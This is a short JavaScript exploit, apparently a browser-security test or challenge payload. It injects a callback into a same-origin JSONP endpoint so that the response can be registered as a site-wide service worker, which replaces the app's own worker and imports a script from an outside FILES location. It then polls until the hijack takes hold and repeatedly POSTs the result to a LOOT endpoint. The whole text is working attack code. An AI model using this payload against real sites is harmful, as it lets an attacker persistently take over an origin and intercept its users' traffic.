// A service worker's script must come from the page's own origin. A JSONP endpoint returns script that the request chooses.
(async () => {
  const own = (await navigator.serviceWorker.getRegistration())?.active?.scriptURL ?? "";
  const call = `globalThis.APP = ${JSON.stringify(own)}; importScripts(${JSON.stringify(`${FILES}worker.js`)});//`;
  let answer;
  try {
    await navigator.serviceWorker.register(`/rates?callback=${encodeURIComponent(call)}`, { scope: "/" });
    // The app's own worker may stay active until this one has replaced it.
    for (let n = 0; n < 100; n++) {
      if ((await navigator.serviceWorker.ready).active.scriptURL.includes("/rates")) break;
      await new Promise((go) => setTimeout(go, 50));
    }
    answer = "registered";
  } catch (error) {
    answer = `${error.name}, no worker`;
  }
  // Repeated, because browsers may lose a request while one worker replaces another.
  const tell = () => fetch(LOOT, { method: "POST", mode: "no-cors", body: answer });
  tell();
  setInterval(tell, 1000);
})();
